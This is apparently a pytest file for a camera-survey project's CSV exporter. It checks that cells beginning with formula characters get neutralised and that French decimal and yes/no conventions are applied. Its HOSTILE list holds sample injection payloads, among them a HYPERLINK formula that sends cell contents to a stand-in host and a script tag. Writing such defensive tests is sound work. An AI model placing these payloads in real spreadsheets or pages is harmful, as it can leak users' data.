"""cameras.csv: formulas inert, text intact, French spreadsheet conventions.
The file is read back with the csv module, as a spreadsheet would split it."""

import csv

from camera_coverage.dossier.csv_export import write_csv

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"clic")',
    "+33 1 23",
    "-2+3",
    "@SUM(A1:A2)",
    "\tTAB",
    "\rCR",
    "<script>alert('x')</script>",
    'Société Générale; caméra « nord » "quoted"',
]


def test_formulas_are_neutralised_and_text_kept(tmp_path):
    path = tmp_path / "cameras.csv"
    rows = [[text, text, 12.5, True, None] for text in HOSTILE]
    write_csv(path, ["camera_id", "operator", "private_m2", "masking_required", "x"], rows, "fr")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with open(path, encoding="utf-8-sig", newline="") as stream:
        read = list(csv.reader(stream, delimiter=";"))
    assert read[0] == ["camera_id", "operator", "private_m2", "masking_required", "x"]
    for text, row in zip(HOSTILE, read[1:]):
        for value in row[:2]:
            # No cell starts with a formula character; removing the one
            # apostrophe added gives the original text back, byte for byte.
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))
            assert (value[1:] if value != text else value) == text
        assert row[2:] == ["12,50", "oui", ""]
    assert read[7][0] == "<script>alert('x')</script>"


def test_english_numbers_keep_the_point(tmp_path):
    path = tmp_path / "c.csv"
    write_csv(path, ["a", "b"], [[1.25, False]], "en")
    assert path.read_text(encoding="utf-8-sig").splitlines()[1] == "1.25;no"
